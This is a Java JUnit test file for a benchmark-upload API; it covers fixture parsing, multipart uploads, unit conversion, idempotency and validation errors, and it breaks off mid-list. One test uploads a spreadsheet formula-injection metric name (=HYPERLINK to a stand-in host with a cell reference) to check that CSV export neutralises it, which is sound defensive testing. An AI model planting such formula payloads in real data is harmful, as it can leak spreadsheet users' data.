package io.perflab.upload;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;

/** {@code POST /api/v1/uploads} end to end: every format from its real fixture, bad input, idempotency. */
class UploadApiTests extends UploadServer {

    String token;

    @BeforeEach
    void token() throws Exception {
        if (token == null) {
            token = newToken("upload-api-tests");
        }
    }

    private JsonNode upload(String query, String contentType, String body) throws Exception {
        HttpResponse<String> response = post("/api/v1/uploads" + query, token, contentType, body);
        assertThat(response.statusCode()).as(response.body()).isEqualTo(201);
        return read(response.body());
    }

    @Test
    void jmhFixtureStoresEverySample() throws Exception {
        JsonNode result = upload("?format=jmh&benchmark=jmh-strings", "application/json", Fixtures.read("jmh.json"));
        long id = result.get("experimentId").asLong();
        // jmh.json: 2 forks × 3 iterations per metric; gc.time of builder[parts=8] has rawData [[], [2 values]],
        // placed at the iterations with collections, 0 ms at the others
        assertThat(samples(id, "StringJoinBenchmark.builder[parts=8]", "with")).isEqualTo(6);
        assertThat(samples(id, "StringJoinBenchmark.concat[parts=64]:gc.alloc.rate.norm", "with")).isEqualTo(6);
        assertThat(samples(id, "StringJoinBenchmark.builder[parts=8]:gc.time", "with")).isEqualTo(6);
        assertThat(result.get("samples").get("with").asInt()).isEqualTo(4 * 6 * 5);
        assertThat(result.get("url").asString()).isEqualTo(base() + "/experiments/" + id);
        assertThat(jdbc.sql("SELECT unit FROM experiment_metric WHERE experiment_id = ? AND metric_key = ?")
                .params(id, "StringJoinBenchmark.concat[parts=64]:gc.alloc.rate.norm").query(String.class).single())
                .isEqualTo("B/op");
        assertThat(jdbc.sql("SELECT kind FROM experiment WHERE id = ?").param(id).query(String.class).single())
                .isEqualTo("UPLOAD");
    }

    @Test
    void goBenchFixtureStoresOneSamplePerLineAndUnit() throws Exception {
        long id = upload("?format=gobench&variant=without", "text/plain", Fixtures.read("gobench.txt"))
                .get("experimentId").asLong();
        // gobench.txt: -count 5, so 5 lines per benchmark, and each unit column is a metric
        for (String metric : new String[] {"Join:ns/op", "Join:B/op", "Join:allocs/op", "Concat:ns/op",
                "Parse/size=10:MB/s", "Parse/size=1000:digits/op"}) {
            assertThat(samples(id, metric, "without")).as(metric).isEqualTo(5);
        }
        assertThat(read(get("/api/v1/experiments/" + id).body()).get("progress").get("completedRuns").asInt())
                .as("one side of 5 runs").isEqualTo(5);
        assertThat(jdbc.sql("SELECT benchmark FROM experiment WHERE id = ?").param(id).query(String.class).single())
                .isEqualTo("example.com/gofix");
    }

    @Test
    void googleBenchmarkFixtureIgnoresAggregates() throws Exception {
        long id = upload("?format=googlebenchmark", "application/json", Fixtures.read("googlebenchmark.json"))
                .get("experimentId").asLong();
        // googlebenchmark.json: --benchmark_repetitions=4 → 4 iteration entries per benchmark
        assertThat(samples(id, "BM_StringAppend/64:cpu_time", "with")).isEqualTo(4);
        assertThat(samples(id, "BM_VectorPush:real_time", "with")).isEqualTo(4);
        assertThat(jdbc.sql("SELECT COUNT(*) FROM experiment_metric WHERE experiment_id = ?").param(id)
                .query(Long.class).single()).isEqualTo(8);
    }

    @Test
    void hyperfineFixtureComparesItsTwoCommands() throws Exception {
        JsonNode result = upload("?benchmark=version-flags", "application/json", Fixtures.read("hyperfine.json"));
        long id = result.get("experimentId").asLong();
        // hyperfine.json: --runs 12 for each command
        assertThat(samples(id, "time", "without")).isEqualTo(12);
        assertThat(samples(id, "time", "with")).isEqualTo(12);
        assertThat(result.get("comparedWith").asString()).isEqualTo("variants");
        JsonNode time = result.get("comparison").get(0);
        assertThat(time.get("metric").asString()).isEqualTo("time");
        assertThat(time.get("nWith").asInt()).isEqualTo(12);
        assertThat(time.get("verdict").asString()).isIn("improved", "regressed", "unchanged", "inconclusive");
        assertThat(jdbc.sql("SELECT label FROM variant WHERE experiment_id = ? AND name = 'with'").param(id)
                .query(String.class).single()).isEqualTo("gzip --version");

        // a command longer than a label may be names its side shortened, as it names the benchmark
        String longCommand = "gzip --version" + " --quiet".repeat(40);
        long longer = upload("?benchmark=long-commands", "application/json", Fixtures.read("hyperfine.json")
                .replace("gzip --version", longCommand)).get("experimentId").asLong();
        assertThat(jdbc.sql("SELECT label FROM variant WHERE experiment_id = ? AND name = 'with'").param(longer)
                .query(String.class).single()).hasSize(200).startsWith("gzip --version --quiet").endsWith("…");
    }

    @Test
    void anUploadIsAnExperimentForTheApiAndThePages() throws Exception {
        long id = upload("?benchmark=pages", "text/csv", Fixtures.read("samples.csv")).get("experimentId").asLong();

        JsonNode experiment = read(get("/api/v1/experiments/" + id).body());
        assertThat(experiment.get("kind").asString()).isEqualTo("upload");
        assertThat(experiment.get("status").asString()).isEqualTo("COMPLETED");
        assertThat(experiment.get("benchmark").asString()).isEqualTo("pages");
        assertThat(experiment.get("results")).hasSize(2);
        // samples.csv: 3 runs a side, each with parse_ns and alloc_bytes; an upload is stored whole (its progress
        // read "0 of 6 runs" before, and every report of an upload said so)
        assertThat(experiment.get("progress").toString()).isEqualTo("{\"completedRuns\":6,\"totalRuns\":6,"
                + "\"failedRuns\":0}");
        HttpResponse<String> page = http.send(HttpRequest.newBuilder(URI.create(base() + "/experiments/" + id))
                .header("Accept", "text/html").GET().build(), HttpResponse.BodyHandlers.ofString());
        assertThat(page.statusCode()).isEqualTo(200);
        assertThat(page.body()).contains("parse_ns");
        HttpResponse<String> report = http.send(HttpRequest.newBuilder(URI.create(base() + "/api/v1/experiments/"
                + id + "/report.md")).GET().build(), HttpResponse.BodyHandlers.ofString());
        assertThat(report.statusCode()).isEqualTo(200);
        assertThat(report.body()).contains("alloc_bytes").contains("COMPLETED · 6 of 6 runs");
    }

    @Test
    void rpcBenchFixturesUseDesignMetricKeys() throws Exception {
        long kudu = upload("?format=rpcbench&benchmark=kudu-rpc", "text/plain", Fixtures.read("rpcbench-kudu.txt"))
                .get("experimentId").asLong();
        // rpcbench-kudu.txt: two reports
        assertThat(samples(kudu, "user_cpu_us_per_req", "with")).isEqualTo(2);
        assertThat(jdbc.sql("SELECT direction FROM experiment_metric WHERE experiment_id = ? AND metric_key = ?")
                .params(kudu, "reqs_per_sec").query(String.class).single()).isEqualTo("HIGHER");
        long perflab = upload("?benchmark=perflab-bench", "text/plain", Fixtures.read("rpcbench-perflab.txt"))
                .get("experimentId").asLong();
        // rpcbench-perflab.txt: three reports
        assertThat(samples(perflab, "latency_p99_us", "with")).isEqualTo(3);
        assertThat(samples(perflab, "voluntary_ctx_switches_per_req", "with")).isEqualTo(3);
    }

    @Test
    void csvFixtureSplitsVariants() throws Exception {
        JsonNode result = upload("?format=csv&benchmark=csv-parse", "text/csv", Fixtures.read("samples.csv"));
        long id = result.get("experimentId").asLong();
        // samples.csv: 3 rows per metric and variant
        assertThat(samples(id, "parse_ns", "without")).isEqualTo(3);
        assertThat(samples(id, "alloc_bytes", "with")).isEqualTo(3);
        assertThat(result.get("comparison")).hasSize(2);
    }

    @Test
    void nativeJsonWithBothSidesAnswersTheComparison() throws Exception {
        String body = """
                {"benchmark": "codec", "name": "varint codec",
                 "without": {"metrics": {"encode_ns": {"unit": "ns", "direction": "lower",
                                                       "values": [100, 101, 99, 100.5, 100.2, 99.8]}}},
                 "with": {"label": "new varint", "metrics": {"encode_ns": {"unit": "ns", "direction": "lower",
                                                       "values": [90, 91, 89, 90.5, 90.2, 89.8]}}},
                 "git": {"repository": "https://example.com/codec.git", "branch": "feature", "commit": "abc123",
                         "commitTime": "2025-02-01T10:00:00Z"},
                 "machine": {"cpu": "test"}, "tags": ["ci"]}""";
        JsonNode result = upload("", "application/json", body);
        JsonNode metric = result.get("comparison").get(0);
        assertThat(metric.get("metric").asString()).isEqualTo("encode_ns");
        // means of the values above: 100.083… and 90.083…; 100·(90.0833/100.0833 − 1) = −9.99 %
        assertThat(metric.get("meanWithout").asDouble())
                .isCloseTo(100.0833333, org.assertj.core.data.Offset.offset(1e-6));
        assertThat(metric.get("percent").asDouble()).isCloseTo(-9.9917, org.assertj.core.data.Offset.offset(1e-3));
        assertThat(metric.get("verdict").asString()).isEqualTo("improved");
        assertThat(metric.get("pValue").asDouble()).isLessThan(1e-6);
        Map<String, Object> row = jdbc
                .sql("SELECT git_branch, git_commit, machine, tags, name FROM experiment WHERE id = ?")
                .param(result.get("experimentId").asLong()).query().singleRow();
        assertThat(row).containsEntry("GIT_BRANCH", "feature").containsEntry("GIT_COMMIT", "abc123")
                .containsEntry("NAME", "varint codec");
    }

    @Test
    void aMetricInTwoUnitsIsNotComparedAsIfAlike() throws Exception {
        HttpResponse<String> refused = post("/api/v1/uploads", token, "application/json", """
                {"benchmark": "units", "without": {"metrics": {"parse": {"unit": "us/op", "values": [10, 11, 12]}}},
                 "with": {"metrics": {"parse": {"unit": "ms/op", "values": [0.010, 0.011, 0.012]}}}}""");
        assertThat(refused.statusCode()).isEqualTo(400);
        assertThat(read(refused.body()).get("detail").asString()).contains("'parse'", "unit 'us/op'",
                "unit 'ms/op'");
        assertThat(field(read(refused.body()))).isEqualTo("with.metrics.parse.unit");
        HttpResponse<String> directions = post("/api/v1/uploads", token, "application/json", """
                {"benchmark": "units", "without": {"metrics": {"ops": {"direction": "higher", "values": [1, 2]}}},
                 "with": {"metrics": {"ops": {"direction": "lower", "values": [1, 2]}}}}""");
        assertThat(directions.statusCode()).isEqualTo(400);
        assertThat(read(directions.body()).get("detail").asString()).contains("direction 'higher'",
                "direction 'lower'");
        assertThat(field(read(directions.body()))).isEqualTo("with.metrics.ops.direction");
    }

    @Test
    void aMetricTheBaseMeasuredInAnotherTimeUnitIsComparedWithTheBasesFiguresConverted() throws Exception {
        // one side against the base upload, run with JMH's -tu us and the later one with -tu ms: the time was left
        // out of the comparison, as a unit that does not convert (B against kB) still is, saying so
        upload("", "application/json", """
                {"benchmark": "units-history", "variant": "with", "metrics": {
                    "parse": {"unit": "us/op", "values": [10, 11, 12, 10.5]},
                    "rate": {"unit": "ops/s", "values": [2000, 2100, 1900, 2000]},
                    "alloc": {"unit": "B/op", "values": [100, 101, 99, 100]},
                    "footprint": {"unit": "B", "values": [4096, 4100, 4092, 4096]}},
                 "git": {"branch": "main", "commit": "base1"}}""");
        JsonNode later = upload("", "application/json", """
                {"benchmark": "units-history", "variant": "with", "metrics": {
                    "parse": {"unit": "ms/op", "values": [0.020, 0.021, 0.022, 0.0205]},
                    "rate": {"unit": "ops/ms", "values": [2, 2.1, 1.9, 2]},
                    "alloc": {"unit": "B/op", "values": [90, 91, 89, 90]},
                    "footprint": {"unit": "kB", "values": [4, 4, 4, 4]}},
                 "git": {"branch": "feature", "commit": "next1"}}""");
        assertThat(later.get("comparedWith").asString()).isEqualTo("base");
        Map<String, JsonNode> compared = new TreeMap<>();
        later.get("comparison").forEach(m -> {
            if (m.get("nWithout").asInt() > 0) {
                compared.put(m.get("metric").asString(), m);
            }
        });
        assertThat(compared).containsOnlyKeys("alloc", "parse", "rate");
        // the base's mean, (10 + 11 + 12 + 10.5) / 4 = 10.875 us, in ms; 100·(0.020875 / 0.010875 − 1) = 91.95 %
        assertThat(compared.get("parse").get("unit").asString()).isEqualTo("ms/op");
        assertThat(compared.get("parse").get("meanWithout").asDouble())
                .isCloseTo(0.010875, org.assertj.core.data.Offset.offset(1e-12));
        assertThat(compared.get("parse").get("percent").asDouble())
                .isCloseTo(91.954, org.assertj.core.data.Offset.offset(1e-3));
        // 2000 ops/s are 2 ops/ms
        assertThat(compared.get("rate").get("meanWithout").asDouble())
                .isCloseTo(2.0, org.assertj.core.data.Offset.offset(1e-12));
        assertThat(later.get("convertedFrom").toString()).isEqualTo("{\"parse\":\"us/op\",\"rate\":\"ops/s\"}");
        assertThat(later.get("notes").toString()).contains("Metric 'parse' is in 'ms/op' here and in 'us/op'",
                "converted from 'us/op' to 'ms/op' to be compared", "Metric 'footprint' is in 'kB'", "in 'B'",
                "not compared");
    }

    @Test
    void twoFilesAsMultipartAreWithoutThenWith() throws Exception {
        String boundary = "test-boundary";
        String body = "--" + boundary
                + "\r\nContent-Disposition: form-data; name=\"without\"; filename=\"a.txt\"\r\n\r\n"
                + Fixtures.read("rpcbench-kudu.txt") + "\r\n--" + boundary
                + "\r\nContent-Disposition: form-data; name=\"with\"; filename=\"b.txt\"\r\n\r\n"
                + Fixtures.read("rpcbench-perflab.txt") + "\r\n--" + boundary + "--\r\n";
        JsonNode result = upload("?benchmark=pair", "multipart/form-data; boundary=" + boundary, body);
        long id = result.get("experimentId").asLong();
        assertThat(samples(id, "reqs_per_sec", "without")).isEqualTo(2);
        assertThat(samples(id, "reqs_per_sec", "with")).isEqualTo(3);
        assertThat(result.get("comparedWith").asString()).isEqualTo("variants");
    }

    @Test
    void twoJmhFilesOfDifferentBenchmarkSetsKeyTheirCommonBenchmarkAlike() throws Exception {
        // jmh-modes.json: bench.json.ParseBenchmark.parse and bench.text.ParseBenchmark.parse, -bm avgt,sample;
        // the 'with' file ran only bench.json.ParseBenchmark in avgt mode: alone it would be keyed
        // 'ParseBenchmark.parse', and nothing would meet the 'without' side's 'json.ParseBenchmark.parse[mode=avgt]'
        String without = Fixtures.read("jmh-modes.json");
        ArrayNode with = json.createArrayNode();
        for (JsonNode entry : read(without)) {
            if (entry.get("benchmark").asString().startsWith("bench.json.") && entry.get("mode").asString()
                    .equals("avgt")) {
                with.add(entry);
            }
        }
        String boundary = "jmh-boundary";
        String body = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"without\"; filename=\"a.json\""
                + "\r\n\r\n" + without + "\r\n--" + boundary + "\r\nContent-Disposition: form-data; name=\"with\"; "
                + "filename=\"b.json\"\r\n\r\n" + with + "\r\n--" + boundary + "--\r\n";
        JsonNode result = upload("?format=jmh&benchmark=jmh-sets", "multipart/form-data; boundary=" + boundary, body);
        JsonNode parse = null;
        for (JsonNode metric : result.get("comparison")) {
            if (metric.get("metric").asString().equals("json.ParseBenchmark.parse[mode=avgt]")) {
                parse = metric;
            }
        }
        assertThat(parse).as(result.toString()).isNotNull();
        assertThat(parse.get("nWithout").asInt()).isEqualTo(4);
        assertThat(parse.get("nWith").asInt()).isEqualTo(4);
        assertThat(samples(result.get("experimentId").asLong(), "ParseBenchmark.parse", "with")).isZero();
    }

    /**
     * The parts of a two-file upload are its files 'without' and 'with', once each: a second 'with' was dropped
     * without a word, a part of another name was ignored, and 'with' sent as a form field (not a file) was "Required
     * part 'with' is not present".
     */
    @Test
    void aTwoFileUploadRefusesAPartGivenTwiceUnknownOrNotAFileNamingIt() throws Exception {
        String csv = "metric,value\nt,1\nt,2\n";
        String type = "multipart/form-data; boundary=" + BOUNDARY;
        JsonNode twice = refused(400, "?benchmark=parts", type, parts(file("without", csv), file("with", csv),
                file("with", "metric,value\nt,3\nt,4\n")));
        assertThat(twice.get("detail").asString())
                .isEqualTo("The part 'with' is given twice; an upload has one file 'file', or one file 'without' and "
                        + "one 'with'.");
        assertThat(field(twice)).isEqualTo("with");
        JsonNode extra = refused(400, "?benchmark=parts", type, parts(file("without", csv), file("with", csv),
                file("extra", csv)));
        assertThat(extra.get("detail").asString())
                .isEqualTo("The part 'extra' is not one of an upload's; its parts are the one file 'file' or the two "
                        + "files 'without' and 'with', and form fields of the upload's parameters (benchmark, branch, "
                        + "commit…).");
        assertThat(field(extra)).isEqualTo("extra");
        JsonNode notAFile = refused(400, "?benchmark=parts", type, parts(file("without", csv), field("with", csv)));
        assertThat(notAFile.get("detail").asString())
                .isEqualTo("The part 'with' must be a file (curl -F 'with=@FILE'), not a form field.");
        assertThat(field(notAFile)).isEqualTo("with");
        JsonNode missing = refused(400, "?benchmark=parts", type, parts(file("without", csv)));
        assertThat(missing.get("detail").asString())
                .isEqualTo("The file 'with' is missing; a two-file upload has one file 'without' and one 'with'. To "
                        + "upload one side, send it as the one file 'file' (curl -F file=@FILE, ?variant= naming its "
                        + "side) or as the request body.");
        assertThat(field(missing)).isEqualTo("with");
        // the upload's parameters may come as form fields too (curl -F benchmark=…), as before; once
        assertThat(upload("", type, parts(file("without", csv), file("with", csv), field("benchmark", "fields")))
                .get("benchmark").asString()).isEqualTo("fields");
        assertThat(refused(400, "?benchmark=parts", type, parts(file("without", csv), file("with", csv),
                field("benchmark", "fields"))).get("detail").asString())
                .startsWith("Parameter 'benchmark' given twice");
        assertThat(upload("?benchmark=parts", type, parts(file("with", csv), file("without", csv)))
                .get("samples").get("with").asInt()).isEqualTo(2);
    }

    /**
     * One file sent as curl users send files, {@code -F file=@FILE}, was refused ("The file 'with' is missing"), so
     * only a raw body uploaded one side: the one file 'file' is now read as that body would be.
     */
    @Test
    void theOneFileFileOfAMultipartUploadIsReadAsTheRequestBody() throws Exception {
        String csv = "metric,value\nt,1\nt,2\nt,3\n";
        String type = "multipart/form-data; boundary=" + BOUNDARY;

        JsonNode asFile = upload("?benchmark=one-file", type, parts(file("file", csv)));
        JsonNode asBody = upload("?benchmark=one-file-body", "text/csv", csv);
        JsonNode asWithout = upload("", type, parts(file("file", csv), field("benchmark", "one-file-side"),
                field("variant", "without")));

        assertThat(asFile.get("samples")).isEqualTo(asBody.get("samples"));
        assertThat(asFile.get("samples").get("with").asInt()).isEqualTo(3);
        assertThat(asWithout.get("benchmark").asString()).isEqualTo("one-file-side");
        assertThat(asWithout.get("samples").get("without").asInt()).isEqualTo(3);
        JsonNode both = refused(400, "?benchmark=one-file", type, parts(file("file", csv), file("with", csv)));
        assertThat(both.get("detail").asString()).isEqualTo("The file 'file' comes with the file 'without' or "
                + "'with'; send either the one file 'file' or the two files 'without' and 'with'.");
        assertThat(field(both)).isEqualTo("file");
    }

    private static final String BOUNDARY = "part-boundary";

    private static String file(String name, String content) {
        return "Content-Disposition: form-data; name=\"" + name + "\"; filename=\"" + name + ".csv\"\r\n\r\n"
                + content;
    }

    private static String field(String name, String content) {
        return "Content-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + content;
    }

    private static String parts(String... parts) {
        StringBuilder body = new StringBuilder();
        for (String part : parts) {
            body.append("--").append(BOUNDARY).append("\r\n").append(part).append("\r\n");
        }
        return body.append("--").append(BOUNDARY).append("--\r\n").toString();
    }

    @Test
    void aLargeUploadWithAnIdempotencyKeyIsStoredAndReplayed() throws Exception {
        // 3,000 metrics answer with some 3 MB of comparison, more than the key's response column held before V19
        StringBuilder without = new StringBuilder();
        StringBuilder with = new StringBuilder();
        for (int i = 0; i < 3000; i++) {
            String sep = i == 0 ? "" : ",";
            without.append(sep).append("\"m").append(i).append("\":{\"unit\":\"ns\",\"values\":[100,101,99]}");
            with.append(sep).append("\"m").append(i).append("\":{\"unit\":\"ns\",\"values\":[90,91,89]}");
        }
        String body = "{\"benchmark\":\"idem-large\",\"without\":{\"metrics\":{" + without
                + "}},\"with\":{\"metrics\":{" + with + "}}}";

        HttpResponse<String> first = post("/api/v1/uploads", token, "application/json", body,
                "Idempotency-Key", "large-1");
        assertThat(first.statusCode()).as(first.body()).isEqualTo(201);
        assertThat(first.body().length()).isGreaterThan(1_000_000);
        Map<String, Long> before = rowCounts();
        HttpResponse<String> again = post("/api/v1/uploads", token, "application/json", body,
                "Idempotency-Key", "large-1");
        assertThat(again.body()).isEqualTo(first.body());
        assertThat(rowCounts()).isEqualTo(before);
    }

    @Test
    void repeatedIdempotencyKeyReturnsTheFirstResponseAndStoresNothing() throws Exception {
        String body = "{\"benchmark\":\"idem\",\"metrics\":{\"t\":{\"values\":[1,2,3]}}}";
        HttpResponse<String> first = post("/api/v1/uploads", token, "application/json", body,
                "Idempotency-Key", "build-42");
        assertThat(first.statusCode()).isEqualTo(201);
        Map<String, Long> before = rowCounts();

        HttpResponse<String> again = post("/api/v1/uploads", token, "application/json", body,
                "Idempotency-Key", "build-42");

        assertThat(again.statusCode()).isEqualTo(201);
        assertThat(again.body()).isEqualTo(first.body());
        assertThat(again.headers().firstValue("Idempotent-Replayed")).contains("true");
        assertThat(rowCounts()).isEqualTo(before);

        HttpResponse<String> otherBody = post("/api/v1/uploads", token, "application/json",
                body.replace("[1,2,3]", "[4,5,6]"), "Idempotency-Key", "build-42");
        assertThat(otherBody.statusCode()).isEqualTo(409);
        assertThat(read(otherBody.body()).get("detail").asString()).contains("was used for a different upload");
        assertThat(rowCounts()).isEqualTo(before);
    }

    @Test
    void largeUploadRepositorysEveryValueAndAnswersWhatTheStoredDataGives() throws Exception {
        // 2 sides × 3 metrics × 301 values: 602 runs and 1,806 samples, more than any single insert statement holds
        int values = 301;
        StringBuilder body = new StringBuilder("{\"benchmark\": \"chunked\"");
        double expectedSum = 0;
        for (String side : new String[] {"without", "with"}) {
            body.append(", \"").append(side).append("\": {\"metrics\": {");
            for (int m = 0; m < 3; m++) {
                body.append(m == 0 ? "" : ", ").append("\"m").append(m).append("\": {\"values\": [");
                for (int i = 0; i < values; i++) {
                    double v = 100 * (m + 1) + (i * 7919 % 101) / 10.0 + (side.equals("with") ? 0.5 : 0);
                    expectedSum += v;
                    body.append(i == 0 ? "" : ",").append(v);
                }
                body.append("]}");
            }
            body.append("}}");
        }
        body.append("}");

        JsonNode result = upload("", "application/json", body.toString());
        long id = result.get("experimentId").asLong();

        for (String side : new String[] {"without", "with"}) {
            for (int m = 0; m < 3; m++) {
                assertThat(samples(id, "m" + m, side)).isEqualTo(values);
            }
        }
        double storedSum = jdbc.sql("SELECT value_count, sample_values FROM sample_series WHERE experiment_id = ?")
                .param(id).query((rs, n) -> java.util.Arrays.stream(
                        io.perflab.experiment.SampleSeries.values(rs.getString(2), rs.getInt(1))).sum())
                .list().stream().mapToDouble(Double::doubleValue).sum();
        assertThat(storedSum).isCloseTo(expectedSum, org.assertj.core.data.Offset.offset(1e-6));
        // the runs read back are the values' positions, per side
        java.util.Set<Integer> runs = new java.util.HashSet<>();
        JsonNode rows = read(get("/api/v1/experiments/" + id + "/samples").body());
        rows.forEach(row -> runs.add(row.get("ordinal").asInt()));
        assertThat(runs).hasSize(2 * values);
        // every sample once, an upload's metric by metric (each side's runs in order within a metric)
        assertThat(rows).hasSize(2 * 3 * values);
        double exportedSum = 0;
        for (JsonNode row : rows) {
            exportedSum += row.get("value").asDouble();
        }
        assertThat(exportedSum).isCloseTo(expectedSum, org.assertj.core.data.Offset.offset(1e-6));
        assertThat(rows.get(0).get("metric").asString()).isEqualTo("m0");
        assertThat(rows.get(2 * values).get("metric").asString()).isEqualTo("m1");
        HttpResponse<String> csv = http.send(HttpRequest.newBuilder(URI.create(base() + "/api/v1/experiments/" + id
                + "/samples")).header("Accept", "text/csv").GET().build(), HttpResponse.BodyHandlers.ofString());
        assertThat(csv.body().lines()).hasSize(1 + 2 * 3 * values).first()
                .isEqualTo("experiment,variant,run,metric,value,unit,status,cpu_split");
        // the response's comparison is the one computed again from the stored rows
        JsonNode stored = read(get("/api/v1/experiments/" + id).body());
        assertThat(stored.get("results")).isEqualTo(result.get("comparison"));
    }

    @Test
    void aMetricNameASpreadsheetWouldRunIsExportedAsText() throws Exception {
        long id = upload("?format=csv&benchmark=formulas", "text/csv", """
                metric,value,variant,unit
                "=HYPERLINK(""http://example.invalid/?""&A1,""x"")",1,without,ns
                @SUM(1+1),2,without,-ns
                plain,3,without,ns
                """).get("experimentId").asLong();
        HttpResponse<String> csv = http.send(HttpRequest.newBuilder(URI.create(base() + "/api/v1/experiments/" + id
                + "/samples")).header("Accept", "text/csv").GET().build(), HttpResponse.BodyHandlers.ofString());
        assertThat(csv.body().lines()).contains(
                id + ",without,0,\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"x\"\")\",1.0,ns,OK,",
                id + ",without,0,'@SUM(1+1),2.0,'-ns,OK,",
                id + ",without,0,plain,3.0,ns,OK,");
        // the JSON keeps the names as they are
        assertThat(read(get("/api/v1/experiments/" + id + "/samples").body()).findValuesAsString("metric"))
                .contains("@SUM(1+1)");
    }

    // ---- bad input: status, message, and nothing stored ----

    private JsonNode refused(int status, String query, String contentType, String body) throws Exception {
        Map<String, Long> before = rowCounts();
        HttpResponse<String> response = post("/api/v1/uploads" + query, token, contentType, body);
        assertThat(response.statusCode()).as(response.body()).isEqualTo(status);
        assertThat(response.headers().firstValue("Content-Type")).hasValueSatisfying(
                t -> assertThat(t).startsWith("application/problem+json"));
        assertThat(rowCounts()).isEqualTo(before);
        return read(response.body());
    }

    /** The field the problem's one error names, or null when it names none; its message is the problem's detail. */
    private static String field(JsonNode problem) {
        assertThat(problem.get("errors")).as(problem.toString()).hasSize(1);
        JsonNode error = problem.get("errors").get(0);
        assertThat(error.get("message").asString()).isEqualTo(problem.get("detail").asString());
        return error.has("field") ? error.get("field").asString() : null;
    }

    /**
     * Native JSON bodies that are refused, each with what its 400's detail must say and the field its error names:
     * the JSON path where the problem is (none named a field before), none for JSON that does not parse.
     */
    static Stream<Arguments> refusedNativeBodies() {
        return Stream.of(
                Arguments.of("{\"benchmark\": \"b\",\n \"metrics\": {\"t\": {\"values\": [1, 2,]}}}",
                        List.of("not valid JSON", "line 2, column"), null),
                Arguments.of("{\"benchmark\":\"b\",\"metrics\":{\"latency_us\":{\"values\":[1.5, NaN, 2]}}}",
                        List.of("Metric 'latency_us'", "value 2 is NaN"), "metrics.latency_us.values[1]"),
                Arguments.of("{\"benchmark\":\"b\",\"metrics\":{\"rate\":{\"values\":[1, -Infinity]}}}",
                        List.of("Metric 'rate'", "-Infinity"), "metrics.rate.values[1]"),
                Arguments.of("{\"benchmark\":\"b\",\"metrics\":{\"cpu_us\":{\"values\":[1, \"fast\"]}}}",
                        List.of("Metric 'cpu_us'", "\"fast\""), "metrics.cpu_us.values[1]"),
                Arguments.of("{\"benchmark\":\"b\",\"metrics\":{\"ok\":{\"values\":[1]},"
                        + "\"empty_one\":{\"values\":[]}}}",
                        List.of("Metric 'empty_one'", "has no values"), "metrics.empty_one.values"),
                // a metric written as its list of values alone has them at its own path
                Arguments.of("{\"benchmark\":\"b\",\"metrics\":{\"t\":[1, 2, 3, Infinity]}}",
                        List.of("Metric 't'", "value 4 is Infinity"), "metrics.t[3]"),
                Arguments.of("{\"benchmark\":\"b\",\"metrics\":{\"qps\":{\"direction\":\"up\",\"values\":[1,2]}}}",
                        List.of("Metric 'qps'", "unknown direction 'up'", "'lower' or 'higher'"),
                        "metrics.qps.direction"),
                // a key given twice: the second list replaced the first, whose samples were lost without a word
                Arguments.of("{\"benchmark\":\"b\",\"metrics\":{\"parse\":[1,2,3],\n \"parse\":[4,5,6]}}",
                        List.of("a key appears twice in one object: \"parse\"", "line 2, column"), "metrics.parse"),
                // a whole number beyond a double: the tree's conversion threw, and the upload answered 500
                Arguments.of("{\"benchmark\":\"b\",\"metrics\":{\"n\":[1, 1" + "0".repeat(400) + "]}}",
                        List.of("The value at metrics.n[1] (line 1, column 37): '1000", "beyond the range of a double"),
                        "metrics.n[1]"),
                // a decimal beyond a double was read as Infinity, and said to be "Infinity"
                Arguments.of("{\"benchmark\":\"b\",\"metrics\":{\"n\":{\"values\":[1, -1.5e400]}}}",
                        List.of("The value at metrics.n.values[1] (line 1, column 47): '-1.5e400' is beyond the "
                                + "range of a double (about ±1.8e308)."), "metrics.n.values[1]"),
                // a misspelt field was skipped: the unit, the direction or the git fields were lost without a word
                Arguments.of("{\"benchmark\":\"b\",\"metrics\":{\"ops\":{\"direciton\":\"higher\",\"values\":[1,2]}}}",
                        List.of("'metrics.ops.direciton' is not a field of the upload; a metric has: unit, direction, "
                                + "values"), "metrics.ops.direciton"),
                Arguments.of("{\"benchmark\":\"b\",\"metrics\":{\"t\":[1,2]},\"gti\":{\"branch\":\"main\"}}",
                        List.of("'gti' is not a field of the upload; it has: benchmark, name, variant, metrics, "
                                + "without, with, git, machine, tags"), "gti"),
                Arguments.of("{\"benchmark\":\"b\",\"metrics\":{\"t\":[1,2]},\"git\":{\"brnach\":\"main\"}}",
                        List.of("'git.brnach' is not a field of the upload; git has: repository, branch, commit"),
                        "git.brnach"),
                Arguments.of("{\"benchmark\":\"b\",\"with\":{\"metrics\":{\"t\":[1,2]},\"lable\":\"x\"}}",
                        List.of("'with.lable' is not a field of the upload; a side has: label, metrics"), "with.lable"),
                // in a side's block, a metric's path begins with the side
                Arguments.of("{\"benchmark\":\"b\",\"with\":{\"metrics\":{\"t\":{\"values\":[1,\"x\"]}}}}",
                        List.of("Metric 't': values[1] is not a number"), "with.metrics.t.values[1]"),
                Arguments.of("{\"benchmark\":\"b\",\"with\":{\"label\":\"" + "l".repeat(201) + "\","
                        + "\"metrics\":{\"t\":[1,2]}}}",
                        List.of("'with.label' is longer than 200 characters."), "with.label"),
                Arguments.of("{\"benchmark\":\"b\",\"metrics\":{\"t\":[1,2]},\"git\":{\"pullRequest\":-1}}",
                        List.of("'git.pullRequest' must be text or a whole number from 0, got a number -1."),
                        "git.pullRequest"),
                Arguments.of("{\"benchmark\":\"b\",\"metrics\":{\"t\":[1,2]},\"git\":{\"commit\":\""
                        + "c".repeat(101) + "\"}}", List.of("'git.commit' is longer than 100 characters."),
                        "git.commit"),
                Arguments.of("{\"benchmark\":\"b\",\"metrics\":{\"t\":[1,2]},\"tags\":[\"ci\",\"nightly\",3]}",
                        List.of("tags[2] is a number 3"), "tags[2]"),
                Arguments.of("{\"benchmark\":\"b\",\"metrics\":{\"t\":[1,2]},"
                        + "\"tags\":[\"ci\",\"nightly\",\"a\\u0007\"]}",
                        List.of("Tags holds a control character (U+0007) at position 2"), "tags[2]"),
